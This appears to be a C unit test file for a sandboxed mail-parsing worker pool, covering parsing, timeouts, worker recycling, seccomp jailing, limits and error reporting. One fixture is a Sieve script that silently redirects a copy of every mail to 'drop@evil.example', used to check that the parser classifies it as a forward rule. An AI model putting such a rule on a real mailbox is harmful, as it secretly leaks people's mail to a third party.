/* test_pool.c - work goes in, exactly one checked result comes out; workers come and go. */
#include "base/clock.h"
#include "base/limits.h"
#include "pool_hooks.h"
#include "pool_worker.h"
#include "pooled.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

static const char plain[] = "From: a@b.example\r\nSubject: hello\r\n\r\nhello\r\n";

static void a_mail_comes_back_as_facts(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);
    const struct pooled_result *result = pooled_one(pooled, str_of(plain));

    (void)state;
    assert_int_equal(result->status, POOL_OK);
    assert_string_equal(result->subject, "hello");
    assert_int_equal(result->parts, 1);
    assert_int_equal(result->fields, 2);
    pooled_drain(pooled);
    result = &pooled->results[pooled_give_bytes(pooled, str_of(plain))];
    pooled_drain(pooled);
    assert_string_equal(result->subject, "hello");
    pooled_free(pooled);
}

/* Of a worker that has just begun with it. */
static int time_for(enum pool_kind kind, size_t length)
{
    struct piece piece = {.kind = kind, .length = length};
    struct pool_worker worker = {.role = {.pid = getpid(), .fd = -1},
                                 .ready = true,
                                 .flight = {&piece},
                                 .count = 1,
                                 .since_ms = clock_mono_ms(),
                                 .since_cpu_ns = -1};

    return pool_worker_timeout(&worker) / POOL_SLOWER;
}

/* A log that the operator named was refused on a slow machine: it had the time of a mail. */
static void a_file_has_the_time_that_its_size_takes(void **state)
{
    (void)state;
    assert_in_range(time_for(POOL_MAIL, MIB(256)), 1, 8000);
    assert_in_range(time_for(POOL_LOG, MIB(256)), 60000, 120000);
    assert_in_range(time_for(POOL_EXPORT, MIB(32)), 10000, 120000);
    assert_in_range(time_for(POOL_LOG, 100), 1, 8000);
}

static void workers_that_rest_are_gone_and_come_back(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 2);

    (void)state;
    pool_rest(pooled->pool);
    pooled_give(pooled, str_of(plain));
    pool_rest(pooled->pool); /* there is work: no */
    pooled_drain(pooled);
    for (unsigned i = 1; i <= 3; i++) {
        pool_rest(pooled->pool);
        assert_int_equal(waitpid(-1, NULL, WNOHANG), -1);
        assert_int_equal(errno, ECHILD);
        assert_int_equal(pool_timeout(pooled->pool), -1);
        assert_string_equal(pooled_one(pooled, str_of(plain))->subject, "hello");
        assert_int_equal(pool_started(pooled->pool), 1 + i);
    }
    pooled_free(pooled);
}

/* Processes that this one has started itself: a worker is its original's. */
static unsigned count_children(void)
{
    char path[64], text[400] = "";
    unsigned count = 0;
    int fd;

    snprintf(path, sizeof(path), "/proc/self/task/%d/children", (int)getpid());
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        print_message("skipped: this kernel does not tell who a process's children are\n");
        skip();
    }
    assert_true(read(fd, text, sizeof(text) - 1) >= 0);
    close(fd);
    for (const char *at = text; (at = strchr(at, ' ')) != NULL; at++)
        count++;
    return count;
}

static void two_pools_may_have_workers_of_one_kind(void **state)
{
    struct pooled *first = pooled_new(PROGRAM, 2), *second = pooled_new(PROGRAM, 1);

    (void)state;
    pool_share(second->pool, first->pool);
    for (unsigned i = 0; i < 3; i++) {
        assert_string_equal(pooled_one(second, str_of(plain))->subject, "hello");
        assert_string_equal(pooled_one(first, str_of(plain))->subject, "hello");
        assert_int_equal(count_children(), 1);
    }
    pool_free(second->pool);
    assert_string_equal(pooled_one(first, str_of(plain))->subject, "hello");
    second->pool = pool_new(&(struct role_options){.program = PROGRAM}, 1, NULL, NULL);
    pool_warm(second->pool);
    assert_int_equal(count_children(), 2);
    pool_free(second->pool);
    free(second);
    pooled_free(first);
}

static void what_workers_are_copies_of_may_start_before_there_is_work(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);

    (void)state;
    assert_int_equal(waitpid(-1, NULL, WNOHANG), -1);
    pool_warm(pooled->pool);
    pool_warm(pooled->pool);
    assert_int_equal(waitpid(-1, NULL, WNOHANG), 0);
    assert_int_equal(pool_started(pooled->pool), 0);
    assert_string_equal(pooled_one(pooled, str_of(plain))->subject, "hello");
    pool_rest(pooled->pool);
    assert_int_equal(waitpid(-1, NULL, WNOHANG), -1);
    assert_int_equal(errno, ECHILD);
    pooled_free(pooled);
}

static void workers_are_jailed_and_say_how(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);

    (void)state;
    assert_string_equal(pool_jail(pooled->pool), "");
    pooled_one(pooled, str_of(plain));
    assert_int_equal(strncmp(pool_jail(pooled->pool), "seccomp", 7), 0);
    pooled_free(pooled);
}

static void mails_of_every_size_are_read_to_their_end(void **state)
{
    static const size_t sizes[] = {100, 4095, 4096, 4097, 131072, 131073, 200000, 9000000};
    struct pooled *pooled = pooled_new(PROGRAM, 2);

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(sizes); i++) {
        const struct pooled_result *result;
        struct buf mail;

        buf_init(&mail, MIB(16));
        buf_text(&mail, "Subject: large\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n");
        buf_text(&mail, "--b\r\n\r\nfirst\r\n--b\r\nContent-Type: image/png\r\n\r\n");
        while (mail.len < sizes[i])
            buf_text(&mail, "0123456789abcdef\r\n");
        buf_text(&mail, "\r\n--b\r\n\r\nlast\r\n--b--\r\n");
        result = pooled_one(pooled, buf_as_str(&mail));
        assert_int_equal(result->status, POOL_OK);
        assert_string_equal(result->subject, "large");
        assert_int_equal(result->parts, 4);
        buf_dispose(&mail);
    }
    pooled_free(pooled);
}

static void an_empty_mail_is_a_mail(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);

    (void)state;
    assert_int_equal(pooled_one(pooled, str_of(""))->status, POOL_OK);
    pooled_free(pooled);
}

/* Two thousand parts with long names: more than a frame holds. */
static void facts_that_are_too_many_are_cut_and_said_to_be(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);
    const struct pooled_result *result;
    char name[901];
    struct buf mail;

    (void)state;
    memset(name, 'n', 900);
    name[900] = '\0';
    buf_init(&mail, MIB(16));
    buf_text(&mail, "Subject: names\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n");
    for (unsigned i = 0; i < 1990; i++)
        buf_printf(&mail,
                   "--b\r\nContent-Type: text/%s\r\nContent-ID: <%s>\r\n"
                   "Content-Disposition: attachment; filename=%s\r\n\r\nx\r\n",
                   name, name, name);
    result = pooled_one(pooled, buf_as_str(&mail));
    assert_int_equal(result->status, POOL_LIMIT);
    assert_string_equal(result->why, "record");
    assert_string_equal(result->subject, "names");
    assert_in_range(result->parts, 500, 1500);
    buf_dispose(&mail);
    pooled_free(pooled);
}

static void a_mail_that_cannot_be_read_has_a_status(void **state)
{
    struct pooled *pooled = pooled_new(PROGRAM, 1);
    struct pool_work work = {.kind = POOL_MAIL, .length = 1000};
    struct error err = {0};

    (void)state;
    work.fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    pooled->given = 1;
    assert_true(pool_give(pooled->pool, &work, &err));
    pooled_drain(pooled);
    assert_int_equal(pooled->results[0].status, POOL_LIMIT);
    assert_string_equal(pooled->results[0].why, "size");
    close(work.fd);
    pooled_free(pooled);
}

static void many_pieces_have_one_answer_each_and_workers_are_replaced(void **state)
{
    enum { PIECES = 5 * LIMIT_RECYCLE };
    struct pooled *pooled = pooled_new(PROGRAM, 2);

    (void)state;
    for (unsigned i = 0; i < PIECES; i++)
        pooled_give_bytes(pooled, str_of(plain));
    pooled_drain(pooled);
    assert_int_equal(pooled->counts[POOL_OK], PIECES);
    assert_in_range(pool_started(pooled->pool), 5, 7);
    pooled_free(pooled);
}

/* Short ones, long ones, and mail between them. */
static void headers_together_have_one_answer_each(void **state)
{
    enum { PIECES = 9000, LONG = 40 * 1024 };
    struct pooled *pooled = pooled_new(PROGRAM, 2);
    struct buf bytes;

    (void)state;
    buf_init(&bytes, KIB(64));
    for (unsigned i = 0; i < PIECES; i++) {
        buf_clear(&bytes);
        buf_printf(&bytes, "From: a@example.com\r\nSubject: number %u\r\n", i);
        while (i % 97 == 5 && bytes.len < LONG)
            buf_text(&bytes, "X-Filler: as long as it takes to need a frame of its own\r\n");
        buf_text(&bytes, "\r\n");
        if (i % 50 == 7)
            pooled_give_bytes(pooled, buf_as_str(&bytes));
        else
            pooled_give_header(pooled, buf_as_str(&bytes));
    }
    pooled_drain(pooled);
    for (unsigned i = 0; i < PIECES; i++) {
        char want[64];

        snprintf(want, sizeof(want), "number %u", i);
        assert_string_equal(pooled->results[i].subject, want);
        assert_int_equal(pooled->results[i].parts, i % 50 == 7);
    }
    assert_in_range(pool_started(pooled->pool), 3, 6);
    buf_dispose(&bytes);
    pooled_free(pooled);
}

/* --- scripts --- */

struct scripted {
    struct rule_script script;
    struct arena arena;
    unsigned answers;
};

static void take_script(void *arg, const struct pool_result *result)
{
    struct scripted *scripted = arg;
    struct error err = {0};

    assert_int_equal(result->kind, POOL_SIEVE);
    assert_int_equal(result->id, 42);
    assert_int_equal(result->status, POOL_OK);
    assert_null(result->mail);
    assert_true(pool_script(&scripted->script, &scripted->arena, result->blob, &err));
    scripted->answers++;
}

static void a_script_comes_back_as_rules(void **state)
{
    const struct role_options options = {.program = PROGRAM};
    const struct pool_work work = {
        .kind = POOL_SIEVE,
        .id = 42,
        .fd = -1,
        .bytes = str_of("require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n"),
        .name = "main",
    };
    struct scripted scripted = {0};
    struct error err = {0};
    struct pool *pool = pool_new(&options, 1, take_script, &scripted);

    (void)state;
    assert_true(pool_give(pool, &work, &err));
    assert_true(pool_drain(pool, &err));
    assert_int_equal(scripted.answers, 1);
    assert_int_equal(scripted.script.count, 1);
    assert_string_equal(scripted.script.rules[0].script, "main");
    assert_int_equal(scripted.script.rules[0].actions[0].kind, RULE_FORWARD);
    assert_string_equal(scripted.script.rules[0].actions[0].argument, "drop@evil.example");
    arena_dispose(&scripted.arena);
    pool_free(pool);
}

/* --- room, and the way in from a result --- */

struct chain {
    struct pool *pool;
    unsigned answers, left;
};

static void give_next(void *arg, const struct pool_result *result)
{
    const struct pool_work work = {.kind = POOL_MAIL, .fd = -1, .bytes = str_of(plain)};
    struct chain *chain = arg;
    struct error err = {0};

    assert_int_equal(result->status, POOL_OK);
    chain->answers++;
    if (chain->left == 0)
        return;
    chain->left--;
    assert_true(pool_give(chain->pool, &work, &err));
}

static void a_result_may_give_the_next_piece(void **state)
{
    const struct role_options options = {.program = PROGRAM};
    const struct pool_work work = {.kind = POOL_MAIL, .fd = -1, .bytes = str_of(plain)};
    struct chain chain = {.left = 200};
    struct error err = {0};

    (void)state;
    chain.pool = pool_new(&options, 2, give_next, &chain);
    for (unsigned i = 0; i < 5; i++)
        assert_true(pool_give(chain.pool, &work, &err));
    assert_true(pool_drain(chain.pool, &err));
    assert_int_equal(chain.answers, 205);
    pool_free(chain.pool);
}

static void a_full_pool_says_so(void **state)
{
    const struct role_options options = {.program = PROGRAM};
    const struct pool_work work = {.kind = POOL_MAIL, .fd = -1, .bytes = str_of(plain)};
    struct chain chain = {0};
    struct error err = {0};

    (void)state;
    chain.pool = pool_new(&options, 1, give_next, &chain);
    while (pool_room(chain.pool) > 0)
        assert_true(pool_give(chain.pool, &work, &err));
    assert_false(pool_give(chain.pool, &work, &err));
    assert_int_equal(err.code, ERROR_LIMIT);
    error_clear(&err);
    assert_true(pool_drain(chain.pool, &err));
    assert_true(pool_room(chain.pool) > 0);
    pool_free(chain.pool); /* and one that still has work */
    chain.pool = pool_new(&options, 1, give_next, &chain);
    assert_true(pool_give(chain.pool, &work, &err));
    pool_free(chain.pool);
}

static void beside_a_screen_less_is_ahead(void **state)
{
    const struct role_options options = {.program = PROGRAM};
    struct chain chain = {.pool = pool_new(&options, 1, give_next, &chain)};
    size_t alone = pool_room(chain.pool);

    (void)state;
    pool_beside_screen(chain.pool);
    assert_true(pool_room(chain.pool) > 0);
    assert_true(pool_room(chain.pool) < alone);
    pool_free(chain.pool);
}

/* --- what goes wrong outside --- */

static void a_program_that_is_no_worker_is_one_plain_sentence(void **state)
{
    static const char *const programs[] = {"/bin/true", "/nonexistent/mailmedic"};

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(programs); i++) {
        const struct role_options options = {.program = programs[i]};
        const struct pool_work work = {.kind = POOL_MAIL, .fd = -1, .bytes = str_of(plain)};
        struct chain chain = {0};
        struct error err = {0};

        chain.pool = pool_new(&options, 1, give_next, &chain);
        assert_true(pool_give(chain.pool, &work, &err));
        assert_false(pool_drain(chain.pool, &err));
        assert_int_equal(err.code, ERROR_JAIL);
        assert_int_equal(strncmp(err.text, "the parse worker does not start: ", 33), 0);
        pool_free(chain.pool);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_mail_comes_back_as_facts),
        cmocka_unit_test(a_file_has_the_time_that_its_size_takes),
        cmocka_unit_test(workers_that_rest_are_gone_and_come_back),
        cmocka_unit_test(two_pools_may_have_workers_of_one_kind),
        cmocka_unit_test(what_workers_are_copies_of_may_start_before_there_is_work),
        cmocka_unit_test(workers_are_jailed_and_say_how),
        cmocka_unit_test(mails_of_every_size_are_read_to_their_end),
        cmocka_unit_test(an_empty_mail_is_a_mail),
        cmocka_unit_test(facts_that_are_too_many_are_cut_and_said_to_be),
        cmocka_unit_test(a_mail_that_cannot_be_read_has_a_status),
        cmocka_unit_test(many_pieces_have_one_answer_each_and_workers_are_replaced),
        cmocka_unit_test(headers_together_have_one_answer_each),
        cmocka_unit_test(a_script_comes_back_as_rules),
        cmocka_unit_test(a_result_may_give_the_next_piece),
        cmocka_unit_test(a_full_pool_says_so),
        cmocka_unit_test(beside_a_screen_less_is_ahead),
        cmocka_unit_test(a_program_that_is_no_worker_is_one_plain_sentence),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
